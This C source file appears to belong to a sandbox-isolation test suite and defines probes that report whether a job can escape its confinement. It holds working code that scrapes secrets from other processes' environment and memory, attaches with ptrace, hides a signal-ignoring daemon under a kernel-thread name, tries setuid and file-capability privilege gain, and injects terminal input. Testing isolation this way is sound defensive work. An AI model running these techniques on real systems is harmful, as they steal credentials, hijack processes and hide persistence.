// SPDX-License-Identifier: Apache-2.0
// Other processes: their environment, memory and signals; outliving the job; gaining privileges by a file.
#define _GNU_SOURCE
#include "attack.h"
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <pty.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/personality.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

enum { NOBODY = 65534, MEMORY_READ_MAX = 64 << 20, ZOMBIES = 60 };

ssize_t read_file(const char *path, char *buffer, size_t size) {
  int fd = open(path, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
  if (fd < 0) return -1;
  size_t length = 0;
  ssize_t n = 0;
  while (length + 1 < size && (n = read(fd, buffer + length, size - 1 - length)) > 0) length += (size_t)n;
  int error = errno;
  close(fd);
  errno = error;
  if (n < 0 && length == 0) return -1;
  buffer[length] = '\0';
  return (ssize_t)length;
}

void command_name(pid_t pid, char *name, size_t size) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/comm", (int)pid);
  ssize_t length = read_file(path, name, size);
  if (length <= 0) snprintf(name, size, "?");
  else name[strcspn(name, "\n")] = '\0';
}

static pid_t parent_of(pid_t pid) {
  char path[64], stat[1024];
  snprintf(path, sizeof path, "/proc/%d/stat", (int)pid);
  if (read_file(path, stat, sizeof stat) <= 0) return 0;
  const char *end = strrchr(stat, ')');
  return end == NULL ? 0 : (pid_t)strtol(end + 4, NULL, 10);
}

static bool is_family(pid_t pid) {
  pid_t session = getsid(0);
  if (pid != 1 && session > 0 && getsid(pid) == session) return true;
  pid_t ancestor = getpid();
  for (int depth = 0; depth < 64 && ancestor > 1; depth++) {
    if (ancestor == pid) return true;
    ancestor = parent_of(ancestor);
  }
  return false;
}

bool each_foreign_process(bool (*visit)(pid_t, void *), void *context) {
  DIR *directory = opendir("/proc");
  if (directory == NULL) return false;
  bool found = false;
  for (struct dirent *entry; !found && (entry = readdir(directory)) != NULL;) {
    pid_t pid = (pid_t)strtol(entry->d_name, NULL, 10);
    if (pid > 0 && !is_family(pid)) found = visit(pid, context);
  }
  closedir(directory);
  return found;
}

// What a visit of processes learnt: the last refusal, or what was read of whom.
struct finding {
  int error;
  pid_t pid;
  size_t bytes;
  char text[120];
};

static struct verdict verdict_of_finding(const struct finding *finding, bool found, const char *what) {
  char name[64];
  if (!found && finding->bytes == 0) return refused(finding->error == 0 ? ESRCH : finding->error, "no other process gave its %s", what);
  command_name(finding->pid, name, sizeof name);
  return got("%s of process %d (%s), %zu bytes%s%s", what, (int)finding->pid, name, finding->bytes, found ? ": " : "", finding->text);
}

static bool environment_holds_secret(pid_t pid, void *context) {
  struct finding *finding = context;
  char path[64], environment[65536], needle[64];
  snprintf(path, sizeof path, "/proc/%d/environ", (int)pid);
  ssize_t length = read_file(path, environment, sizeof environment);
  if (length <= 0) {
    if (length < 0) finding->error = errno;
    return false;
  }
  finding->pid = pid;
  finding->bytes = (size_t)length;
  snprintf(needle, sizeof needle, "%s=", text_parameter("ATTACK_SECRET_NAME", "DEPLOY_TOKEN"));
  const char *value = memmem(environment, (size_t)length, needle, strlen(needle));
  if (value != NULL) snprintf(finding->text, sizeof finding->text, "%s", value);
  return value != NULL;
}

static struct verdict read_proc_environ(void) {
  struct finding finding = {0};
  bool found = each_foreign_process(environment_holds_secret, &finding);
  return verdict_of_finding(&finding, found, "environment");
}

// The runner that the real attack read keeps its secrets as `{"value":"…","isSecret":true}`.
static bool copy_secret(struct finding *finding, const char *chunk, size_t length) {
  static const char OPENING[] = "{\"value\":\"", CLOSING[] = "\",\"isSecret\":true";
  const char *end = memmem(chunk, length, CLOSING, sizeof CLOSING - 1);
  if (end == NULL) return false;
  const char *start = end;
  while (start > chunk && end - start < 100 && strncmp(start, OPENING, sizeof OPENING - 1) != 0) start--;
  if (strncmp(start, OPENING, sizeof OPENING - 1) == 0) start += sizeof OPENING - 1;
  snprintf(finding->text, sizeof finding->text, "%.*s", (int)(end - start), start);
  return true;
}

static bool region_holds_secret(int memory, unsigned long from, unsigned long to, struct finding *finding) {
  static char chunk[1 << 20];
  for (; from < to && finding->bytes < MEMORY_READ_MAX; from += sizeof chunk / 2) {
    size_t size = to - from < sizeof chunk ? to - from : sizeof chunk;
    ssize_t length = pread(memory, chunk, size, (off_t)from);
    if (length <= 0) {
      if (length < 0) finding->error = errno;
      return false;
    }
    finding->bytes += (size_t)length;
    if (copy_secret(finding, chunk, (size_t)length)) return true;
  }
  return false;
}

static bool memory_holds_secret(pid_t pid, void *context) {
  struct finding *finding = context;
  char path[64], line[512];
  snprintf(path, sizeof path, "/proc/%d/mem", (int)pid);
  int memory = open(path, O_RDONLY | O_CLOEXEC);
  snprintf(path, sizeof path, "/proc/%d/maps", (int)pid);
  FILE *maps = memory < 0 ? NULL : fopen(path, "re");
  if (maps == NULL) finding->error = errno;
  bool found = false;
  while (maps != NULL && !found && fgets(line, sizeof line, maps) != NULL) {
    unsigned long from = 0, to = 0;
    char mode[5] = "";
    // Writable memory only: the text of this program holds the needle too.
    if (sscanf(line, "%lx-%lx %4s", &from, &to, mode) != 3 || mode[0] != 'r' || mode[1] != 'w') continue;
    finding->pid = pid;
    found = region_holds_secret(memory, from, to, finding);
  }
  if (maps != NULL) fclose(maps);
  if (memory >= 0) close(memory);
  return found;
}

static struct verdict read_proc_mem(void) {
  struct finding finding = {0};
  bool found = each_foreign_process(memory_holds_secret, &finding);
  return verdict_of_finding(&finding, found, "memory");
}

static bool seizes(pid_t pid, void *context) {
  struct finding *finding = context;
  finding->pid = pid;
  // PTRACE_SEIZE does not stop the target, and our exit lets it go.
  if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0) return true;
  finding->error = errno;
  return false;
}

static struct verdict ptrace_attach(void) {
  struct finding finding = {0};
  if (!each_foreign_process(seizes, &finding)) return refused(finding.error == 0 ? ESRCH : finding.error, "no other process could be traced");
  return got("traced process %d", (int)finding.pid);
}

static bool reads_by_vm_call(pid_t pid, void *context) {
  struct finding *finding = context;
  char byte;
  struct iovec here = {&byte, 1}, there = {(void *)0x10000, 1};
  finding->pid = pid;
  if (process_vm_readv(pid, &here, 1, &there, 1, 0) >= 0) return true;
  finding->error = errno;
  return errno == EFAULT;  // the permission was given; only the address was a guess
}

static struct verdict vm_readv(void) {
  struct finding finding = {0};
  if (!each_foreign_process(reads_by_vm_call, &finding)) return refused(finding.error == 0 ? ESRCH : finding.error, "no other process could be read");
  return got("process_vm_readv may read process %d", (int)finding.pid);
}

static bool may_signal(pid_t pid, void *context) {
  struct finding *finding = context;
  if (pid == 1) return false;  // an attempt of its own
  finding->pid = pid;
  if (kill(pid, 0) == 0) return true;
  finding->error = errno;
  return false;
}

static struct verdict kill_others(void) {
  struct finding finding = {0};
  char name[64];
  if (!each_foreign_process(may_signal, &finding)) return refused(finding.error == 0 ? ESRCH : finding.error, "no other process may be signalled");
  command_name(finding.pid, name, sizeof name);
  return got("may kill process %d (%s)", (int)finding.pid, name);
}

static struct verdict kill_init(void) {
  if (kill(1, 0) != 0) return refused(errno, "process 1 may not be signalled");
  return got("process 1 may be signalled");
}

static struct verdict daemonize_outlive(void) {
  pid_t first = fork();
  if (first < 0) return refused(errno, "fork");
  if (first == 0) {
    setsid();
    signal(SIGHUP, SIG_IGN);
    signal(SIGTERM, SIG_IGN);
    signal(SIGINT, SIG_IGN);
    if (fork() != 0) _exit(0);
    prctl(PR_SET_NAME, "kworker/u4:1");
    for (int fd = 0; fd < 64; fd++) close(fd);  // holding the output pipe open would give it away
    execl("/proc/self/exe", "[kworker/u4:1]", "outlive", text_parameter("ATTACK_NONCE", "outlive-nonce"), NULL);
    _exit(1);
  }
  waitpid(first, NULL, 0);
  return started("a detached process that ignores SIGHUP, SIGTERM and SIGINT");
}

static int zombies_of_init(void) {
  int count = 0;
  DIR *directory = opendir("/proc");
  for (struct dirent *entry; directory != NULL && (entry = readdir(directory)) != NULL;) {
    char path[300], stat[1024];
    snprintf(path, sizeof path, "/proc/%s/stat", entry->d_name);
    if (entry->d_name[0] < '1' || entry->d_name[0] > '9' || read_file(path, stat, sizeof stat) <= 0) continue;
    const char *end = strrchr(stat, ')');
    if (end != NULL && end[2] == 'Z' && strtol(end + 4, NULL, 10) == 1) count++;
  }
  if (directory != NULL) closedir(directory);
  return count;
}

static struct verdict zombie_flood(void) {
  pid_t parent = fork();
  if (parent < 0) return refused(errno, "fork");
  if (parent == 0) {
    for (int i = 0; i < ZOMBIES; i++) {
      if (fork() == 0) {
        usleep(100000);  // until the parent is gone, so that process 1 inherits us
        _exit(0);
      }
    }
    _exit(0);
  }
  waitpid(parent, NULL, 0);
  usleep(500000);
  int left = zombies_of_init();
  if (left < ZOMBIES / 2) return refused(0, "process 1 reaped what it inherited (%d left)", left);
  return got("%d zombies stay", left);
}

static bool copy_of_self(char *path, size_t size, mode_t mode) {
  scratch_path(path, size, "copy");
  int from = open("/proc/self/exe", O_RDONLY | O_CLOEXEC), to = open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0700);
  char buffer[65536];
  ssize_t n = from < 0 || to < 0 ? -1 : 0;
  while (n >= 0 && (n = read(from, buffer, sizeof buffer)) > 0) n = write(to, buffer, (size_t)n);
  bool copied = n == 0 && fchmod(to, mode) == 0;
  if (from >= 0) close(from);
  if (to >= 0) close(to);
  return copied;
}

// Runs `path question` as an ordinary user: 0 yes, 1 no, otherwise an errno that came before.
static int ask_as_nobody(const char *path, const char *question) {
  pid_t child = fork();
  if (child < 0) return errno;
  if (child == 0) {
    int file = open(path, O_PATH | O_CLOEXEC);  // the directory need not be open to everybody
    if (geteuid() == 0 && (setresgid(NOBODY, NOBODY, NOBODY) != 0 || setresuid(NOBODY, NOBODY, NOBODY) != 0)) _exit(100);
    char *arguments[] = {"copy", (char *)question, NULL}, *none[] = {NULL};
    execveat(file, "", arguments, none, AT_EMPTY_PATH);
    _exit(101);
  }
  int status = 0;
  waitpid(child, &status, 0);
  if (!WIFEXITED(status)) return EINTR;
  return WEXITSTATUS(status) == 100 ? EPERM : WEXITSTATUS(status) == 101 ? EACCES : WEXITSTATUS(status);
}

static struct verdict setuid_binary(void) {
  char path[512];
  bool copied = copy_of_self(path, sizeof path, 04755);
  int error = errno, answer = copied ? ask_as_nobody(path, "effective-root") : -1;
  unlink(path);
  if (!copied) return refused(error, "the file could not be made");
  if (answer == 0) return got("an ordinary user became root by a setuid file");
  return refused(answer == 1 ? 0 : answer, "the setuid file gave no user id");
}

static struct verdict file_capabilities(void) {
  char path[512];
  struct vfs_cap_data data = {.magic_etc = VFS_CAP_REVISION_2 | VFS_CAP_FLAGS_EFFECTIVE,
                              .data = {{.permitted = 1u << CAP_NET_BIND_SERVICE | 1u << CAP_CHOWN, .inheritable = 0}}};
  bool copied = copy_of_self(path, sizeof path, 0755);
  bool set = copied && setxattr(path, "security.capability", &data, XATTR_CAPS_SZ_2, 0) == 0;
  int error = errno, answer = set ? ask_as_nobody(path, "effective-capability") : -1;
  unlink(path);
  if (!set) return refused(error, "the capabilities could not be put on a file");
  if (answer == 0) return got("an ordinary user gained capabilities by a file");
  return refused(answer == 1 ? 0 : answer, "the file's capabilities had no effect");
}

static bool opens_executable_for_writing(pid_t pid, void *context) {
  struct finding *finding = context;
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/exe", (int)pid);
  int fd = open(path, O_WRONLY | O_CLOEXEC);
  finding->pid = pid;
  if (fd >= 0) return close(fd), true;
  finding->error = errno;
  return errno == ETXTBSY;  // nothing but its running stands in the way, and the attack waits for that to end
}

static struct verdict proc_self_exe_overwrite(void) {
  struct finding finding = {0};
  if (!each_foreign_process(opens_executable_for_writing, &finding)) {
    return refused(finding.error == 0 ? ESRCH : finding.error, "no program of another process can be overwritten");
  }
  return got("the program of process %d can be overwritten", (int)finding.pid);
}

static struct verdict workdir_fd_leak(void) {
  for (int fd = 0; fd < 1024; fd++) {
    struct stat info;
    char link[64], path[128] = "";
    if (fstat(fd, &info) != 0 || !S_ISDIR(info.st_mode)) continue;
    snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
    ssize_t length = readlink(link, path, sizeof path - 1);
    if (length > 0) path[length] = '\0';
    return got("inherited directory descriptor %d is %s", fd, path);
  }
  return refused(EBADF, "no directory descriptor was inherited");
}

static struct verdict change_personality(void) {
  if (personality(ADDR_NO_RANDOMIZE | READ_IMPLIES_EXEC) < 0) return refused(errno, "personality");
  return got("address randomisation off, readable memory executable");
}

// Types a byte into a terminal of its own: what would hijack the terminal of whoever started the job.
static struct verdict tiocsti(void) {
  int master = -1, slave = -1;
  if (openpty(&master, &slave, NULL, NULL, NULL) != 0) return refused(errno, "no terminal");
  pid_t child = fork();
  if (child == 0) {
    setsid();
    if (ioctl(slave, TIOCSCTTY, 0) != 0) _exit(errno);
    _exit(ioctl(slave, TIOCSTI, "x") == 0 ? 0 : errno);
  }
  int status = 0;
  waitpid(child, &status, 0);
  int error = WIFEXITED(status) ? WEXITSTATUS(status) : EINTR;
  return error == 0 ? got("a byte was typed into a terminal") : refused(error, "TIOCSTI");
}

const struct attack PROCESS_ATTACKS[] = {
    {"workdir-fd-leak", workdir_fd_leak},
    {"read-proc-environ", read_proc_environ},
    {"read-proc-mem", read_proc_mem},
    {"ptrace-attach", ptrace_attach},
    {"process-vm-readv", vm_readv},
    {"kill-others", kill_others},
    {"kill-init", kill_init},
    {"proc-self-exe-overwrite", proc_self_exe_overwrite},
    {"setuid-binary", setuid_binary},
    {"file-capabilities", file_capabilities},
    {"personality", change_personality},
    {"tiocsti", tiocsti},
    {"zombie-flood", zombie_flood},
    {"daemonize-outlive", daemonize_outlive},
    {NULL, NULL},
};
